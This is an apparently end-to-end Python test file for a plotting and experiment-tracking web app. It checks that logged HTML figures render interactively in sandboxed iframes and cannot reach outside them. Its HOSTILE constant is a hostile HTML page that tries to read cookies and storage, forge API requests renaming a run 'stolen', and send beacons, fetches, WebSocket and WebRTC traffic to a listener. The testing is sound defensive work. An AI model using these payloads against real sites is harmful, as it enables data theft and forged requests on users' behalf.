"""Interactive figures live on the page, and reach nothing beyond their frame."""

import http.client
import json
import re
import socket
import sysconfig
import threading
from collections.abc import Iterator
from urllib.parse import urlsplit

import pytest
from e2e_server import Server, wait_until
from playwright.sync_api import Browser, Frame, FrameLocator, Locator, Page, expect

LIBRARIES = """
import sys
import altair, bokeh.plotting, plotly.graph_objects as go
import farwatch

with farwatch.init(project=sys.argv[1], system=False) as run:
    run.log({"plotly": go.Figure(go.Scatter(x=[0, 1, 2], y=[10, 30, 20], mode="markers", marker_size=20))}, step=0)
    shown = bokeh.plotting.figure(width=300, height=200, tools="hover", tooltips=[("number", "@y")])
    shown.scatter([1, 2, 3], [10, 30, 20], size=20)
    run.log({"bokeh": shown}, step=0)
    rows = altair.Data(values=[{"a": 1, "b": 10}, {"a": 2, "b": 30}, {"a": 3, "b": 20}])
    chart = altair.Chart(rows).mark_bar().encode(x="a:O", y="b:Q", tooltip="b:Q")
    run.log({"altair": chart}, step=0)
"""

HOSTILE = """<!doctype html>
<link rel=preconnect href="http://{listener}/preconnect"><link rel=prefetch href="http://{listener}/prefetch">
<link rel=stylesheet href="http://{listener}/style"><script src="http://{listener}/script"></script>
<script type=speculationrules>{{"prefetch": [{{"urls": ["http://{listener}/speculation"]}}]}}</script>
<style>@font-face {{ font-family: f; src: url(http://{listener}/font) }} p {{ font-family: f; background: url({api}/info) }}</style>
<p>hello</p><img src="http://{listener}/img"><img src="{api}/runs"><video src="http://{listener}/video"></video>
<iframe src="http://{listener}/frame"></iframe><iframe src="{page}/"></iframe><object data="http://{listener}/object"></object>
<form id=form method=post action="{api}/runs/{run}"><input name=name value=stolen></form>
<script>
const found = {{}};
async function attempt(name, work) {{
    try {{ found[name] = String(await work()); }} catch (error) {{ found[name] = "refused"; }}
}}
const rename = (more) => fetch("{api}/runs/{run}", {{ method: "PATCH", credentials: "include", body: '{{"name":"stolen"}}', ...more }});
const done = (async () => {{
    await attempt("origin", () => self.origin);
    await attempt("cookie", () => document.cookie);
    await attempt("localStorage", () => localStorage.length);
    await attempt("sessionStorage", () => sessionStorage.length);
    await attempt("indexedDB", () => new Promise((yes, no) => {{
        const asked = indexedDB.open("x"); asked.onsuccess = () => yes("open"); asked.onerror = no;
    }}));
    await attempt("caches", () => caches.open("x"));
    await attempt("worker", () => navigator.serviceWorker.register("/sw.js"));
    await attempt("parent", () => parent.document.title);
    await attempt("top", () => top.localStorage.length);
    await attempt("read", async () => (await fetch("{api}/runs", {{ credentials: "include" }})).status);
    await attempt("opaque", async () => (await fetch("{api}/runs", {{ mode: "no-cors", credentials: "include" }})).type);
    await attempt("change", async () => (await rename({{}})).status);
    await attempt("post", async () => (await rename({{ method: "POST", mode: "no-cors" }})).type);
    await attempt("fetch", async () => (await fetch("http://{listener}/fetch", {{ mode: "no-cors" }})).type);
    await attempt("import", () => import("http://{listener}/module.js"));
    await attempt("socket", () => new Promise((yes, no) => {{
        const socket = new WebSocket("ws://{listener}/"); socket.onopen = yes; socket.onerror = no;
    }}));
    await attempt("popup", () => window.open("http://{listener}/popup") ?? Promise.reject());
    await attempt("blob worker", () => new Promise((yes, no) => {{
        const worker = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"])));
        worker.onmessage = yes; worker.onerror = no;
    }}));
    navigator.sendBeacon("http://{listener}/beacon", "x");
    new EventSource("http://{listener}/events");
    try {{ form.submit(); }} catch {{}}
    const peer = new RTCPeerConnection({{ iceServers: [{{ urls: "stun:{datagrams}" }}] }});
    peer.createDataChannel("x");
    await peer.setLocalDescription(await peer.createOffer());
    const nested = document.createElement("iframe");
    nested.srcdoc = `<script>new Image().src = "http://{listener}/nested"; fetch("{api}/runs")<` + `/script>`;
    document.body.append(nested);
    return found;
}})();
</script>"""

REFUSED = [
    "localStorage", "sessionStorage", "indexedDB", "caches", "worker", "parent", "top", "read", "opaque", "change", "post",
    "fetch", "import", "socket", "popup", "blob worker",
]  # fmt: skip

DOCUMENTS = """
import json, sys, farwatch
with farwatch.init(project=sys.argv[1], id=sys.argv[2], name="mine", system=False) as run:
    run.log({name: farwatch.Html(text) for name, text in json.loads(sys.argv[3]).items()}, step=0)
    run.log({"picture": farwatch.Image([[0.0, 1.0]])}, step=0)
"""


class Listener:
    """A host that only notes who came: TCP connections and UDP datagrams on loopback."""

    def __init__(self) -> None:
        self.heard: list[str] = []
        self.tcp = socket.create_server(("127.0.0.1", 0))
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", 0))
        self.address = f"127.0.0.1:{self.tcp.getsockname()[1]}"
        self.datagrams = f"127.0.0.1:{self.udp.getsockname()[1]}"
        for work in (self._connections, self._datagrams):
            threading.Thread(target=work, name="listener", daemon=True).start()

    def _connections(self) -> None:
        while True:
            try:
                came, _ = self.tcp.accept()
            except OSError:
                return
            came.settimeout(1)
            try:
                self.heard.append(came.recv(100).decode("latin-1"))
            except OSError:
                self.heard.append("a connection without a word")
            came.close()

    def _datagrams(self) -> None:
        while True:
            try:
                self.heard.append(f"datagram of {len(self.udp.recv(2_000))} bytes")
            except OSError:
                return

    def close(self) -> None:
        for end in (self.tcp, self.udp):
            end.shutdown(socket.SHUT_RDWR) if end is self.tcp else None
            end.close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    made = Listener()
    yield made
    made.close()


def test_figures_of_three_libraries_answer_the_pointer(server: Server, page: Page, project: str) -> None:
    """E3. The page's fixture fails if anything is asked of another host."""
    # the server's environment is bare; the libraries are those of the tests
    server.train(LIBRARIES, project, environment={"PYTHONPATH": sysconfig.get_path("purelib")})
    with server.api() as api:
        run = server.ended(api, project)[0]
    page.goto(f"{server.address}/r/{run.id[:7]}/samples")

    plotly = _figure(page, "plotly")
    plotly.locator(".scatterlayer .point").nth(1).hover(force=True)
    expect(plotly.locator(".hoverlayer .hovertext")).to_contain_text("30")
    altair = _figure(page, "altair")
    _move_until(altair.locator("canvas, svg").first, altair.locator("#vg-tooltip-element.visible"))
    expect(altair.locator("#vg-tooltip-element")).to_contain_text(re.compile("10|20|30"))
    bokeh = _figure(page, "bokeh")
    _move_until(bokeh.locator(".bk-Canvas").first, bokeh.locator(".bk-Tooltip").first)
    expect(bokeh.locator(".bk-Tooltip").first).to_contain_text("number")


def _figure(page: Page, name: str) -> FrameLocator:
    frame = page.locator(f"iframe[title='{name}']")
    frame.scroll_into_view_if_needed()
    expect(frame).to_have_attribute("sandbox", "allow-scripts")
    return page.frame_locator(f"iframe[title='{name}']")


def _move_until(plot: Locator, tooltip: Locator) -> None:
    """Move over a plot, line by line, until it tells what is under the pointer."""
    expect(plot).to_be_visible()
    box = plot.bounding_box()
    assert box is not None
    for place in range(1, 12 * 12):
        share_x, share_y = (place % 12 + 0.5) / 12, (place // 12 + 0.5) / 12
        plot.page.mouse.move(box["x"] + box["width"] * share_x, box["y"] + box["height"] * share_y)
        if tooltip.is_visible():
            return


def test_enlarged_figure_goes_on_where_it_was(server: Server, page: Page, project: str) -> None:
    counter = "<button onclick='this.textContent = Number(this.textContent) + 1'>0</button>"
    _log(server, project, f"large-{project}", {"counter": counter})
    page.goto(f"{server.address}/r/large-{project}/samples")
    button = _figure(page, "counter").get_by_role("button")
    button.click()

    page.get_by_role("button", name="Enlarge").click()
    expect(page.get_by_role("button", name="Close")).to_be_visible()
    frame = page.locator("iframe").bounding_box()
    assert frame is not None and (frame["width"], frame["height"] > 800) == (1440, True)
    button.click()
    page.get_by_role("button", name="Close").click()

    expect(page.get_by_role("button", name="Enlarge")).to_be_visible()
    expect(button).to_have_text("2")


def test_hostile_figure_reaches_neither_the_person_nor_the_api_nor_the_network(
    server: Server, browser: Browser, listener: Listener, project: str
) -> None:
    run = f"hostile-{project}"
    api = f"{server.address}/api/v1"
    names = {
        "listener": listener.address,
        "datagrams": listener.datagrams,
        "api": api,
        "page": server.address,
        "run": run,
    }
    _log(server, project, run, {"hostile": HOSTILE.format(**names)})
    context = browser.new_context(viewport={"width": 1440, "height": 900})
    context.add_cookies([{"name": "farwatch-test", "value": "secret", "url": server.address}])
    page = context.new_page()
    page.goto(f"{server.address}/r/{run}/samples")
    page.evaluate("localStorage.setItem('farwatch.mark', 'secret')")

    frame = _loaded(page)
    found = frame.evaluate("done")
    assert found == {"origin": "null", "cookie": "refused"} | dict.fromkeys(REFUSED, "refused")

    for way in (
        f"location = 'http://{listener.address}/gone'",
        f"location = '{api}/runs'",
        f"top.location = 'http://{listener.address}/'",
    ):
        frame = _loaded(page)
        page.evaluate("window.stays = true")
        frame.evaluate(f"() => {{ try {{ {way} }} catch {{}} }}")
        page.wait_for_timeout(500)
        assert page.evaluate("window.stays"), f"the page itself was sent away: {way}"
        assert all('"total"' not in shown.content() for shown in page.frames), "the API answered the figure"
        page.reload()
    assert len(context.pages) == 1
    context.close()
    assert listener.heard == []
    with server.api() as asked:
        assert asked.run(run).name == "mine"


def _loaded(page: Page) -> Frame:
    """The document in its frame, its own attempts over."""
    frame = page.locator("iframe").element_handle().content_frame()
    assert frame is not None
    frame.wait_for_function("typeof done === 'object'")
    frame.evaluate("done")
    return frame


def test_figure_is_answered_to_a_frame_and_only_if_the_run_logged_it_as_one(
    server: Server, project: str
) -> None:
    run, other = f"one-{project}", f"two-{project}"
    _log(server, project, run, {"page": "<b>one</b>"})
    _log(server, project, other, {"page": "<b>two</b>"})
    with server.api() as api:
        items = {(name, item["name"]): item for name in (run, other) for item in api.run(name).media()}
    frame = items[run, "page"]["frame"]
    picture, foreign = items[run, "picture"]["sha256"], items[other, "page"]["sha256"]

    assert items[run, "picture"]["frame"] is None
    answers = {
        "framed": _get(server, frame, {"Sec-Fetch-Dest": "iframe", "Sec-Fetch-Site": "same-origin"}),
        "alone": _get(server, frame, {"Sec-Fetch-Dest": "document", "Sec-Fetch-Site": "none"}),
        "script": _get(server, frame, {"Sec-Fetch-Dest": "script", "Sec-Fetch-Site": "same-origin"}),
        "no origin": _get(server, frame, {"Sec-Fetch-Dest": "iframe", "Origin": "null"}),
        "other site": _get(server, frame, {"Sec-Fetch-Dest": "iframe", "Sec-Fetch-Site": "cross-site"}),
        "a picture": _get(server, f"runs/{run}/figures/{picture}", {}),
        "of another run": _get(server, f"runs/{run}/figures/{foreign}", {}),
        "no hash": _get(server, f"runs/{run}/figures/x", {}),
    }

    assert {name: status for name, (status, _) in answers.items()} == {
        "framed": 200, "alone": 403, "script": 403, "no origin": 403, "other site": 403,
        "a picture": 404, "of another run": 404, "no hash": 400,
    }  # fmt: skip
    policy = answers["framed"][1]["content-security-policy"]
    assert policy.startswith("sandbox allow-scripts; default-src 'none'; ")
    assert "allow-same-origin" not in policy and "http" not in policy and "*" not in policy
    assert _get(server, items[run, "page"]["url"], {})[1]["content-security-policy"].startswith("sandbox; ")


def _get(server: Server, path: str, headers: dict[str, str]) -> tuple[int, dict[str, str]]:
    """Status and headers of an answer to what a browser of the same person might send."""
    connection = http.client.HTTPConnection(urlsplit(server.address).netloc, timeout=10)
    connection.request("GET", f"/api/v1/{path}", headers=headers)
    answer = connection.getresponse()
    answer.read()
    connection.close()
    return answer.status, {name.lower(): value for name, value in answer.getheaders()}


def _log(server: Server, project: str, run: str, documents: dict[str, str]) -> None:
    """Log documents to a run of their own, and wait until their bytes are there."""
    server.train(DOCUMENTS, project, run, json.dumps(documents))
    with server.api() as api:
        wait_until(
            lambda: any((found.id, found.state) == (run, "finished") for found in api.runs(project)),
            "the run has ended",
        )
        wait_until(
            lambda: all(item["url"] for item in api.run(run).media()), "the documents are on the server"
        )
